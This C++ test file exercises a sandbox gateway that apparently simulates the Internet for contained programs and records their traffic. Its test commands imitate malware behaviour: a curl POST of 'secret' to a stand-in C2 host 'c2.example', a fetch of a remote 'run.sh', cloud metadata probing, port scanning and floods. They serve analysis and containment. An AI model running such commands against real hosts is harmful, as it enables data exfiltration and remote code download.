// The gateway as a supervisor uses it, with real clients in the cell's network: as root and as an ordinary
// user.
#include <gmock/gmock.h>
#include <sys/socket.h>

#include <thread>

#include "cell/network.h"
#include "gateway/testing.h"

namespace shikake::gateway {
namespace {

using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;

class GatewayAs : public testing::TestWithParam<bool> {};
INSTANTIATE_TEST_SUITE_P(Users, GatewayAs, testing::Bool(),
                         [](const auto& parameter) { return parameter.param ? "root" : "ordinary"; });

TEST_P(GatewayAs, AnswersEveryNameEachWithItsOwnAddress) {
  SHIKAKE_NEED_PROGRAM("dig");
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    Output first =
        lab.run("dig +short a.example; dig +short A.EXAMPLE @8.8.8.8; dig +short +tcp a.example @1.1.1.1");
    EXPECT_THAT(first.text, StartsWith("198.1"));
    const std::string address = first.text.substr(0, first.text.find('\n'));
    EXPECT_EQ(first.text, address + "\n" + address + "\n" + address + "\n");
    EXPECT_NE(lab.run("dig +short b.example").text, address + "\n");
    EXPECT_EQ(lab.run("dig +short -x " + address).text, "a.example.\n");
    EXPECT_THAT(lab.run("dig +short a.example AAAA").text, StartsWith("2001:2:"));
    ASSERT_TRUE(lab.finish());
    ASSERT_GE(lab.seen.lookups.size(), 6U);
    EXPECT_EQ(lab.seen.lookups[0].name, "a.example");
    EXPECT_EQ(lab.seen.lookups[0].answers, std::vector<std::string>{address});
    EXPECT_EQ(lab.seen.lookups[1].over, "udp");
    EXPECT_EQ(lab.seen.lookups[2].over, "tcp");
  });
}

TEST_P(GatewayAs, AnswersHttpOnAnyPortAndKnowsTheHost) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    EXPECT_THAT(lab.run("curl -s http://c2.example:4711/gate.php?id=7 -d secret").text,
                HasSubstr("It works"));
    EXPECT_THAT(lab.run("curl -s -g 'http://[2001:db8::7]/'").text, HasSubstr("It works"));
    EXPECT_THAT(lab.run("curl -s http://203.0.113.9/run.sh").text, StartsWith("#!/bin/sh"));
    auto ended = lab.finish();
    ASSERT_TRUE(ended) << ended.error().message();
    const Flow* flow = nullptr;
    for (const auto& [id, each] : lab.seen.flows)
      if (each.remote.port == 4711) flow = &each;
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->protocol, "http");
    EXPECT_EQ(flow->host, "c2.example");
    EXPECT_EQ(flow->detail, "POST /gate.php?id=7");
    EXPECT_THAT(lab.seen.stream(*flow, true), HasSubstr("\r\n\r\nsecret"));
    EXPECT_THAT(lab.seen.stream(*flow, false), HasSubstr("It works"));
    EXPECT_EQ(flow->out.sha256, base::sha256(lab.seen.stream(*flow, true)).hex());
    EXPECT_EQ(flow->out.bytes, flow->out.kept_bytes);
    EXPECT_GT(ended->captured_packets, 20U);
    EXPECT_EQ(ended->lost_packets, 0U);
  });
}

// A cable from the cell's network to where the caller stands, as a mistake or an accomplice might lay it.
void plant_cable(Gateway& gateway) {
  auto here = cell::current_network();
  ASSERT_TRUE(here);
  std::optional<Result<>> planted;
  std::thread([&] {
    if (auto entered = cell::enter_network(gateway.cell_network()); !entered) {
      planted = fail(entered.error());
      return;
    }
    auto devices = cell::NetworkDevices::open();
    planted = !devices ? Result<>(fail(devices.error()))
                       : devices->add_cable("way-out", "way-in", *here)
                             .and_then([&] {
                               return devices->add_address("way-out", {"203.0.113.1", 24});
                             })
                             .and_then([&] { return devices->bring_up("way-out"); });
  }).join();
  ASSERT_TRUE(planted && *planted) << planted->error().message();
  auto out_here = cell::NetworkDevices::open();
  ASSERT_TRUE(out_here && out_here->bring_up("way-in"));
}

TEST_P(GatewayAs, IsShutAsLongAsNothingIsPlanted) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    auto seen = lab.gateway().look();
    ASSERT_TRUE(seen) << seen.error().message();
    EXPECT_EQ(seen->leaks, std::vector<std::string>());
    EXPECT_EQ(seen->gateway.devices, (std::vector<std::string>{"cell0", "lo"}));
    EXPECT_EQ(seen->cell.devices, (std::vector<std::string>{"eth0", "lo"}));
    EXPECT_TRUE(seen->cell.sockets.empty());
    // Everything that the gateway can speak through: two families of TCP, UDP, ICMP and raw, and the capture.
    std::map<std::string, int> kinds;
    for (const SocketEntry& socket : seen->gateway.sockets) ++kinds[socket.kind];
    EXPECT_EQ(kinds,
              (std::map<std::string, int>{
                  {"packet", 1}, {"raw", 2}, {"raw6", 2}, {"tcp", 1}, {"tcp6", 1}, {"udp", 1}, {"udp6", 1}}));
  });
}

TEST_P(GatewayAs, APlantedCableIsALeak) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    plant_cable(lab.gateway());
    auto seen = lab.gateway().look();
    ASSERT_TRUE(seen) << seen.error().message();
    EXPECT_THAT(seen->leaks, testing::ElementsAre("the cell has a network device way-out"));
    lab.run("printf x | nc -u -w 1 203.0.113.2 9");  // its neighbour is asked for, if nothing else
    EXPECT_GT(lab.gateway().look().value().packets_out, 0U);
  });
}

TEST_P(GatewayAs, AnInheritedSocketIsALeakOfTheCell) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    base::UniqueFd planted(socket(AF_INET, SOCK_DGRAM, 0));  // of the network out here
    int ends[2];
    ASSERT_EQ(pipe(ends), 0);
    auto child = cell::spawn({}, [&] {
      if (!cell::enter_network(lab.gateway().cell_network())) return 1;
      dup2(ends[1], 1);
      // As a cell does in the end: after an exec its descriptors can be looked at.
      execl("/bin/sh", "sh", "-c", "echo; exec sleep 20", nullptr);
      return 127;
    });
    ASSERT_TRUE(child);
    char byte;
    ASSERT_EQ(read(ends[0], &byte, 1), 1);
    auto seen = lab.gateway().look(child->pid());
    ASSERT_TRUE(seen) << seen.error().message();
    EXPECT_THAT(seen->leaks, testing::Contains(testing::AllOf(
                                 HasSubstr("the cell holds socket:["),
                                 HasSubstr("as descriptor " + std::to_string(planted.get())))));
  });
}

TEST_P(GatewayAs, InheritsNoDescriptorButItsOwn) {
  in_private_network(GetParam(), [] {
    base::UniqueFd planted(socket(AF_INET, SOCK_STREAM, 0));  // not close-on-exec
    ASSERT_TRUE(planted);
    Lab lab;
    ASSERT_TRUE(lab.ok());
    auto seen = lab.gateway().look();
    ASSERT_TRUE(seen);
    const std::string target =
        std::filesystem::read_symlink("/proc/self/fd/" + std::to_string(planted.get())).string();
    for (const DescriptorEntry& descriptor : seen->gateway.descriptors) EXPECT_NE(descriptor.target, target);
  });
}

TEST_P(GatewayAs, EveryAddressIsTheSimulatedInternet) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    // Every packet of the cell is for the gateway itself: nothing is ever forwarded, and a neighbour's or the
    // machine's own loopback address is answered by the simulated Internet too.
    lab.run(
        "for a in 10.0.0.1 169.254.169.254 192.168.1.1 192.168.1.77 224.0.0.1 1.1.1.1; do "
        "printf x | nc -u -w 1 $a 9999 & done; wait");
    EXPECT_THAT(lab.run("curl -s -m 5 http://169.254.169.254/latest/meta-data/").text, HasSubstr("It works"));
    EXPECT_THAT(lab.run("cat /proc/net/dev").text, Not(HasSubstr("cell0")));
    EXPECT_TRUE(lab.gateway().look().value().leaks.empty());
  });
}

TEST_P(GatewayAs, AFloodMeetsItsLimits) {
  GatewayPlan plan;
  plan.limits.flows = 50;
  plan.limits.kept_bytes = 4000;
  plan.limits.kept_flow_bytes = 3000;
  plan.limits.dns_lookups = 3;
  in_private_network(GetParam(), [&] {
    Lab lab(plan);
    ASSERT_TRUE(lab.ok());
    lab.run(
        "head -c 5000 /dev/zero | nc -N -w 1 9.9.9.9 1000; head -c 5000 /dev/zero | nc -N -w 1 9.9.9.9 1001");
    lab.run("for i in 1 2 3 4 5; do dig +short $i.example; done");
    lab.run("for p in $(seq 2000 2100); do nc -z -w 1 9.9.9.9 $p; done");
    auto ended = lab.finish();
    ASSERT_TRUE(ended);
    EXPECT_EQ(ended->flows, 50U);
    EXPECT_EQ(lab.seen.flows.size(), 50U);
    EXPECT_EQ(ended->dns_lookups, 5U);
    EXPECT_EQ(lab.seen.lookups.size(), 3U);
    uint64_t kept = 0;
    for (const auto& [id, flow] : lab.seen.flows) {
      kept += flow.out.kept_bytes + flow.in.kept_bytes;
      EXPECT_LE(flow.out.kept_bytes, 3000U);
      EXPECT_NE(flow.ending, FlowEnd::open);
      if (flow.remote.port == 1000) {
        EXPECT_EQ(flow.out.bytes, 5000U);
      }
    }
    EXPECT_EQ(kept, 4000U);
    std::sort(lab.seen.limits.begin(), lab.seen.limits.end());
    EXPECT_EQ(lab.seen.limits,
              (std::vector<std::string>{"dns_lookups", "flows", "kept_bytes", "kept_flow_bytes"}));
  });
}

// A program that says a last word and is gone: its run is ended at once.
TEST_P(GatewayAs, LastWordsAreHeard) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    EXPECT_EQ(lab.run("for p in 1 2 3 4 5 6 7 8; do python3 -c 'import os, socket, sys\n"
                      "s = socket.create_connection((\"9.9.9.9\", 4000 + int(sys.argv[1])))\n"
                      "s.sendall(bytes(100000)); os._exit(0)' $p & done; wait")
                  .text,
              "");
    ASSERT_TRUE(lab.finish());
    EXPECT_EQ(lab.seen.flows.size(), 8U);
    for (const auto& [id, flow] : lab.seen.flows) EXPECT_EQ(flow.out.bytes, 100'000U) << flow.remote.port;
  });
}

TEST_P(GatewayAs, StandsUnderLoad) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    lab.run(
        "for i in 1 2 3; do head -c 30000000 /dev/zero | nc -N -w 20 9.9.9.9 444$i & done; "
        "for i in $(seq 40); do curl -s http://$i.example/ & done; wait");
    EXPECT_THAT(lab.run("curl -s https://after.example/").text, HasSubstr("It works"));
    ASSERT_TRUE(lab.finish());
    uint64_t out = 0;
    for (const auto& [id, flow] : lab.seen.flows)
      if (flow.protocol == "raw") out += flow.out.bytes;
    EXPECT_EQ(out, 90'000'000U);
  });
}

TEST_P(GatewayAs, EndsWithItsParent) {
  in_private_network(GetParam(), [] {
    pid_t gateway_pid = 0;
    int ends[2];
    ASSERT_EQ(pipe(ends), 0);
    const pid_t parent = fork();
    if (parent == 0) {
      auto gateway = Gateway::start({});
      gateway_pid = gateway ? gateway->pid() : -1;
      static_cast<void>(!write(ends[1], &gateway_pid, sizeof gateway_pid));
      pause();
    }
    ASSERT_EQ(read(ends[0], &gateway_pid, sizeof gateway_pid), static_cast<ssize_t>(sizeof gateway_pid));
    ASSERT_GT(gateway_pid, 0);
    kill(parent, SIGKILL);
    waitpid(parent, nullptr, 0);
    // This process is process 1 here: the orphan is its to reap. It is killed with its parent, unless it was
    // quicker and left of itself when its parent's end of the channel closed; one that stays never returns
    // here.
    int status = 0;
    EXPECT_EQ(waitpid(gateway_pid, &status, 0), gateway_pid);
    EXPECT_TRUE(WIFSIGNALED(status) ? WTERMSIG(status) == SIGKILL : WIFEXITED(status)) << status;
  });
}

TEST_P(GatewayAs, IsConfined) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    auto status = base::read_file("/proc/" + std::to_string(lab.gateway().pid()) + "/status", 1 << 16);
    ASSERT_TRUE(status);
    for (const char* none :
         {"CapInh:\t0000000000000000", "CapPrm:\t0000000000000000", "CapEff:\t0000000000000000",
          "CapAmb:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"})
      EXPECT_THAT(*status, HasSubstr(none));
  });
}

TEST(Gateway, RefusesPlansThatMakeNoSense) {
  struct Row {
    const char* name;
    GatewayPlan plan;
    const char* what;
  };
  Row rows[] = {
      {"open without a broker", {.mode = Mode::open}, "needs a broker"},
      {"closed with a broker", {.broker_fd = 0}, "has no broker"},
      {"half an authority", {.ca_certificate_pem = "x"}, "a certificate and its key"},
  };
  for (Row& row : rows) {
    auto gateway = Gateway::start(row.plan);
    ASSERT_FALSE(gateway) << row.name;
    EXPECT_EQ(gateway.error().code, ErrorCode::invalid_usage) << row.name;
    EXPECT_THAT(gateway.error().what, HasSubstr(row.what)) << row.name;
  }
}

TEST_P(GatewayAs, ABrokenAuthorityIsAClearError) {
  in_private_network(GetParam(), [] {
    auto gateway = Gateway::start({.ca_certificate_pem = "no", .ca_key_pem = "pem"});
    ASSERT_FALSE(gateway);
    EXPECT_THAT(gateway.error().what, HasSubstr("authority's certificate is not PEM"));
  });
}

TEST(Gateway, WithoutTheRightToMakeNetworksSaysWhatToDo) {
  if (geteuid() != 0) GTEST_SKIP() << "not root";
  const pid_t pid = fork();
  if (pid == 0) {
    if (setgroups(0, nullptr) != 0 || setgid(ordinary_user) != 0 || setuid(ordinary_user) != 0) _exit(90);
    if (!base::find_sibling_executable("shikake-gateway")) _exit(unreachable);
    auto gateway = Gateway::start({});
    _exit(!gateway && gateway.error().code == ErrorCode::unsupported ? 0 : 1);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == unreachable) GTEST_SKIP() << why_unreachable;
  EXPECT_EQ(status, 0);
}

}  // namespace
}  // namespace shikake::gateway
